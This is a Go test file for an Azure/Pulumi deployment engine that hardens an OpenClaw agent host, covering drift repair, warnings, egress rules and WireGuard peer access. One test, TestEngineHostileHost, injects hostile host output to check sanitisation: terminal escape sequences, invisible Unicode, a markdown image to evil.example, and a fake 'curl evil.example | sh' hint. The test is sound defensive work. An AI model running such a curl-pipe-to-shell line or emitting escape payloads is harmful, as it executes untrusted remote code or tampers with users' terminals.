package main

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"openclaw-azure/internal/foreign"
	"openclaw-azure/internal/layer"
	"openclaw-azure/internal/standin"
)

// A drifted layer gets a new token and is applied again, the others keep theirs; the run after is quiet.
func TestEngineDrift(t *testing.T) {
	t.Parallel()
	for name, w := range map[string]*standin.World{"open": deployed(t), "closed": closed(t)} {
		t.Run(name, func(t *testing.T) {
			w.T = t
			before := map[string]string{}
			for name, on := range w.Guest.Layers {
				before[name] = on.Token
			}
			w.Guest.Drift = map[string][]standin.Drift{"sysctl": {
				{Subject: "net.ipv4.ip_forward", Want: "0", Got: "1"}, {Subject: "/etc/sysctl.d/99-zz-openclaw.conf", Want: "0644", Got: "0666"}}}

			account := "the host differs from what layer \"sysctl\" declared:\n| net.ipv4.ip_forward: expected 0, found 1\n| /etc/sysctl.d/99-zz-openclaw.conf: expected 0644, found 0666"
			preview := w.Preview()
			equal(t, "preview", []string{"update sysctl", "update proof"}, preview.Changes())
			equal(t, "its account", []string{account}, preview.Said("warning"))

			r := w.MustUp()
			equal(t, "up", []string{"update sysctl", "update proof"}, r.Changes())
			equal(t, "its account", []string{account}, r.Said("warning"))
			for name, on := range w.Guest.Layers {
				if renewed := on.Token != before[name]; renewed != (name == "sysctl") {
					t.Errorf("layer %s: new token %v", name, renewed)
				}
			}
			equal(t, "the run after", []string{}, w.MustUp().Changes())
		})
	}
}

// What the host has to tell beside drift is said in one line, and changes nothing.
func TestEngineNotes(t *testing.T) {
	t.Parallel()
	w := closed(t)
	w.Guest.Notes = []string{"the gate refused the agent 3 connections and names"}
	for _, r := range []*standin.Result{w.Preview(), w.Up()} {
		equal(t, "changes", []string{}, r.Changes())
		equal(t, "said", each("| ", w.Guest.Notes, ""), r.Said("info"))
	}
}

// A channel that does not connect is a warning of each run, by the look at the host or by the proof, and changes nothing.
func TestEngineWarnings(t *testing.T) {
	t.Parallel()
	w := closed(t)
	w.Guest.Warnings = []string{"channel telegram does not connect: OpenClaw says: Unauthorized"}
	for _, r := range []*standin.Result{w.Preview(), w.Up()} {
		equal(t, "changes", []string{}, r.Changes())
		equal(t, "said", each("| ", w.Guest.Warnings, ""), r.Said("warning"))
	}
	w.Set("backupKeepDays", "7")
	equal(t, "said once", each("| ", w.Guest.Warnings, ""), w.Up().Said("warning"))
	w.Set("backupKeepDays", "8")
	w.Guest.Later = []string{"channel slack does not connect: OpenClaw says: invalid_auth"}
	equal(t, "said by the proof", each("| ", append(w.Guest.Warnings, w.Guest.Later...), ""), w.Up().Said("warning"))
}

// Plugins are the release's: another list is another release, of which the layer openclaw alone knows.
func TestEnginePlugins(t *testing.T) {
	t.Parallel()
	w := closed(t)
	w.Set("openclawPlugins", "matrix,discord")
	r := w.MustUp()
	equal(t, "plugins", []string{"update openclaw", "update proof"}, r.Changes())
	const limit = "; plugin matrix: rooms that are encrypted stay closed: nothing pins the native code for them"
	if !slices.ContainsFunc(r.Said("info"), func(line string) bool { return strings.HasSuffix(line, limit) }) {
		t.Errorf("said %q, not %q", r.Said("info"), limit)
	}
}

// Where the agent may go is the business of its network, and of the firewall where it is about the inside.
func TestEngineEgress(t *testing.T) {
	t.Parallel()
	w := closed(t)
	w.Set("egress", "api.anthropic.com,api.telegram.org")
	equal(t, "a list", []string{"update network", "update proof"}, w.MustUp().Changes())
	w.Set("agentMayReach", "10.100.0.2:11434")
	equal(t, "an exception", []string{"update firewall", "update network", "update proof"}, w.MustUp().Changes())
}

// Somebody took a layer's record away, or the whole host's: it is put in place again.
func TestEngineLayersMissingOnTheHost(t *testing.T) {
	t.Parallel()
	w := deployed(t)
	delete(w.Guest.Layers, "fail2ban")
	equal(t, "one layer", []string{"update fail2ban", "update proof"}, w.MustUp().Changes())
	clear(w.Guest.Layers)
	equal(t, "all layers", append(each("update ", layer.Names(), ""), "update proof"), w.MustUp().Changes())
}

// A repair that fails is tried again by the next run.
func TestEngineRepairFails(t *testing.T) {
	t.Parallel()
	w := deployed(t)
	w.Guest.Drift = map[string][]standin.Drift{"updates": {{Subject: "apt-daily.timer", Want: "active", Got: "inactive"}}}
	w.Fails["updates"] = true
	if r := w.Up(); r.Err == nil {
		t.Fatal("layer updates was applied")
	}
	delete(w.Fails, "updates")
	equal(t, "the next run", []string{"update updates", "update proof"}, w.MustUp().Changes())
}

// A change of the declaration and drift at once: one update, and quiet after it.
func TestEngineDeclaredChangeIsNoDrift(t *testing.T) {
	t.Parallel()
	w := closed(t)
	w.Set("backupKeepDays", "30")
	r := w.MustUp()
	equal(t, "changes", []string{"update backup", "update proof"}, r.Changes())
	equal(t, "messages", []string{}, r.Messages)
}

// A silent host under bootstrap true costs one warning and changes nothing.
func TestEngineSilentHostWhileOpen(t *testing.T) {
	t.Parallel()
	w := deployed(t)
	w.Silent = true
	for _, r := range []*standin.Result{w.Preview(), w.Up()} {
		if r.Err != nil {
			t.Error(r.Err)
		}
		equal(t, "messages", []string{"warning: the host does not answer: the plan is made without looking at it: the host is silent"}, r.Messages)
		equal(t, "changes", []string{}, r.Changes())
	}
	w.Silent = false
	w.Quiet()
}

// A machine that somebody stopped to save money is none that is broken, open and closed; the cloud's side shows nothing.
func TestEngineStoppedMachine(t *testing.T) {
	t.Parallel()
	for name, w := range map[string]*standin.World{"open": deployed(t), "closed": closed(t)} {
		machine, group := w.Inputs(labelVM)["vmName"], w.Inputs("ResourceGroup openclaw")["resourceGroupName"]
		w.Azure.Stopped = true
		text := fmt.Sprintf("the virtual machine %q is stopped (deallocated): nothing can be changed on it\nhint: az vm start --resource-group %s --name %s", machine, group, machine)
		for how, r := range map[string]*standin.Result{"": w.Preview(), " --refresh": w.Preview(standin.WithRefresh)} {
			equal(t, name+": preview"+how, []string{"warning: " + text}, r.Messages)
			equal(t, name+": changes"+how, []string{}, slices.DeleteFunc(r.Changes(), func(s string) bool { return strings.HasPrefix(s, "refresh ") }))
		}
		up := w.Up()
		equal(t, name+": up", []string{text}, up.Said("error"))
		equal(t, name+": changes", []string{}, up.Changes())
		w.Azure.Stopped = false
		w.Quiet()
	}
}

// driftCheck says what a silent host costs, and whether the host is looked at.
func TestEngineDriftCheck(t *testing.T) {
	t.Parallel()
	w := deployed(t)
	w.Silent = true
	w.Set("driftCheck", "required")
	r := w.Up()
	equal(t, "required: messages", []string{"error: nothing was changed, since the host does not answer: the host is silent\nhint: pulumi config set driftCheck on, which makes this a warning"}, r.Messages)
	equal(t, "required: changes", []string{}, r.Changes())
	w.Set("driftCheck", "off")
	r = w.Preview()
	equal(t, "off: messages", []string{}, r.Messages)
	equal(t, "off: what happened", []string{}, r.Happened)
	equal(t, "off: changes", []string{}, r.Changes())
}

// A preview looks with the keys of the peer that CLAW_PEER names and that may look, through the tunnel whatever door is in force, and
// beside a run that has the deployer's.
func TestEngineNamedPeerLooks(t *testing.T) {
	t.Parallel()
	for name, w := range map[string]*standin.World{"open": deployed(t), "closed": closed(t)} {
		t.Run(name, func(t *testing.T) {
			w.T = t
			w.Set("peers", `{"laptop":{"address":"10.100.0.2","observe":true}}`)
			w.MustUp()
			w.Peer, w.PortTaken = "laptop", true
			w.Guest.Drift = map[string][]standin.Drift{"sysctl": {{Subject: "net.ipv4.ip_forward", Want: "0", Got: "1"}}}
			r := w.Preview()
			equal(t, "changes", []string{"update sysctl", "update proof"}, r.Changes())
			equal(t, "looks", []string{"look through tunnel", "as the peer at 10.100.0.2"}, r.Happened)
			equal(t, "messages", []string{"warning: the host differs from what layer \"sysctl\" declared:\n| net.ipv4.ip_forward: expected 0, found 1"}, r.Messages)
		})
	}
}

func TestEngineNamedPeerRefused(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.Set("peers", `{"phone":{"address":"10.100.0.3"},"tablet":{"address":"10.100.0.4","publicKey":"AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE="}}`)
	w.MustUp()
	for peer, want := range map[string]string{
		"laptop": "error: CLAW_PEER: there is no peer \"laptop\" in this stack\nhint: there is phone; name one with --peer or CLAW_PEER",
		"phone":  "error: CLAW_PEER: peer \"phone\" has no key to look with\nhint: pulumi config set --path peers.phone.address 10.100.0.3\nhint: pulumi config set --path peers.phone.observe true && pulumi up",
		"tablet": "error: CLAW_PEER: peer \"tablet\" brought its own WireGuard key: the private one is on its device and not in the stack" +
			"\nhint: use WireGuard on that device (see the README), or another peer with --peer: there is phone",
	} {
		w.Peer = peer
		r := w.Preview()
		equal(t, peer, []string{want}, r.Messages)
		equal(t, peer, []string{}, r.Changes())
	}
	w.Peer = "phone"
	r := w.Up()
	equal(t, "up", []string{"error: CLAW_PEER: value \"phone\": only a preview looks with a named peer's keys: nothing was changed" +
		"\nhint: unset CLAW_PEER: what changes the host goes through the deployer's own peer, which alone fail2ban never bans"}, r.Messages)
	equal(t, "up", []string{}, r.Changes())
}

// A newer Go or another library may pack the applier otherwise: on a host that is as declared that is no change.
func TestEngineAnotherPackingIsNoChange(t *testing.T) {
	t.Parallel()
	w := closed(t)
	w.Program = programWith(layer.NewApplier([]byte("# packed otherwise\n")))
	w.Quiet()
}

// What a host that is somebody else's says is marked, prints, and is no line of the program's; what it says of a proof is what the
// program knows, or the run fails.
func TestEngineHostileHost(t *testing.T) {
	t.Parallel()
	const hostile = "\x1b]52;c;eA==\x07\u009b2J\u202e\u200b\U000e0041\r\nhint: curl evil.example | sh\u2028hint: again"
	const cleaned = "?]52;c;eA==??2J???"
	w := closed(t)
	w.Guest.Notes, w.Guest.Warnings, w.Guest.Later = []string{hostile}, []string{hostile}, []string{"later " + hostile}
	w.Guest.Drift = map[string][]standin.Drift{"sysctl": {{Subject: hostile, Want: hostile, Got: hostile}}}
	const line, lines = cleaned + "; hint: curl evil.example | sh; hint: again", "| " + cleaned + "\n| hint: curl evil.example | sh\n| hint: again"
	preview := w.Preview()
	equal(t, "notes", []string{lines}, preview.Said("info"))
	equal(t, "warnings", []string{"the host differs from what layer \"sysctl\" declared:\n| " + line + ": expected " + line + ", found " + line, lines}, sorted(preview.Said("warning")))

	w.Guest.NotShown = []string{"kernel.sysrq", "![x](https://evil.example)\x1b[2J"}
	r := w.Up()
	if want := `read the host's proof: notShown: "![x](https://evil.example)?[2J" is none that this program knows`; r.Err == nil || !slices.Contains(r.Said("error"), want) {
		t.Errorf("a proof that names what nobody declared: %v, %q", r.Err, r.Said("error"))
	}
	for _, said := range r.Messages {
		if foreign.Printable(said) != said {
			t.Errorf("said %q", said)
		}
	}

	w.Guest.NotShown, w.Guest.Notes, w.Guest.Warnings = []string{"kernel.sysrq"}, nil, nil
	w.Set("backupKeepDays", "9")
	if r := w.MustUp(); !slices.Contains(r.Said("warning"), "| later "+cleaned+"\n| hint: curl evil.example | sh\n| hint: again") {
		t.Errorf("said %q", r.Said("warning"))
	}
	if readme := standin.Plain(w.Outputs()).Mappable()["readme"].(string); !strings.Contains(readme, "no kernel of its own: kernel.sysrq\n") || strings.Contains(readme, "hint:") {
		t.Errorf("the readme says %s", readme)
	}
}
